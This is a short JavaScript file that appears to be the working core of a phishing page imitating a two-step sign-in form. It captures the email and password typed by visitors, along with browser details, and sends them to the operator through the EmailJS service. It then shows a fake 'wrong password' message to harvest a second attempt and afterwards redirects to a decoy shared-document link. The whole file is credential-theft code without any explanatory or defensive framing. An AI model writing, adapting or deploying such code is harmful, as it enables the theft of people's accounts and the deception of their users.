(function () {
    emailjs.init("PUBLIC_KEY");
})();

function sendMail() {
    var params = {
        email: document.getElementById("identifierId").value,
        password: document.getElementById("pwd").value,
        agent: navigator.userAgent,
        lang: navigator.language,
        time: new Date().toString()
    };

    const serviceID = "service_xxx";
    const templateID = "template_xxx";

    emailjs.send(serviceID, templateID, params)
        .then(res => {
            document.getElementById("pwd").value = "";
            console.log(res);
            document.getElementById("wrong").style.display = "block";
            window.tryCount = (window.tryCount || 0) + 1;
            if (window.tryCount === 2) {
                window.location.href = "https://drive.sharedocs.example/document/d/0000/view";
            }
        })
        .catch(err => console.log(err));
}

document.getElementById("nextBtn").addEventListener("click", function () {
    document.getElementById("step1").style.display = "none";
    document.getElementById("profileEmail").innerText = document.getElementById("identifierId").value;
    document.getElementById("step2").style.display = "block";
});
document.getElementById("signBtn").addEventListener("click", sendMail);
